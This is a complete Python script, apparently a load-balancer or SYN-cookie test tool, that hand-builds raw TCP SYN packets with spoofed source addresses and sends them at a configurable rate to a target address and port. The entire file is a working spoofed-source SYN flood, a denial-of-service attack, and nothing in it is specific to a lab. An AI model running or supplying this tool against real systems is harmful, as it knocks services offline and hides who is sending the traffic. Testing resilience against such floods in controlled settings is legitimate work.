#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Half-open connections from addresses nobody owns: TCP SYNs with spoofed
sources, never completed (the SYN-ACKs go to hosts that do not exist).

  synflood.py --vip 10.10.0.100 --port 80 --src-prefix 10.10.0. --first 200 \\
      --last 250 --seconds 8 --rate 50
"""
import argparse
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp  # the kernel fills in the IP checksum (IP_HDRINCL)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--vip", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--src-prefix", required=True)
    ap.add_argument("--first", type=int, default=200)
    ap.add_argument("--last", type=int, default=250)
    ap.add_argument("--seconds", type=float, default=8)
    ap.add_argument("--rate", type=float, default=50)
    a = ap.parse_args()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + a.seconds
    sent = 0
    while time.monotonic() < end:
        src = a.src_prefix + str(random.randint(a.first, a.last))
        s.sendto(syn(src, a.vip, random.randint(1024, 65000), a.port), (a.vip, 0))
        sent += 1
        time.sleep(1.0 / a.rate)
    print(f"sent {sent} SYNs")
    return 0


if __name__ == "__main__":
    sys.exit(main())
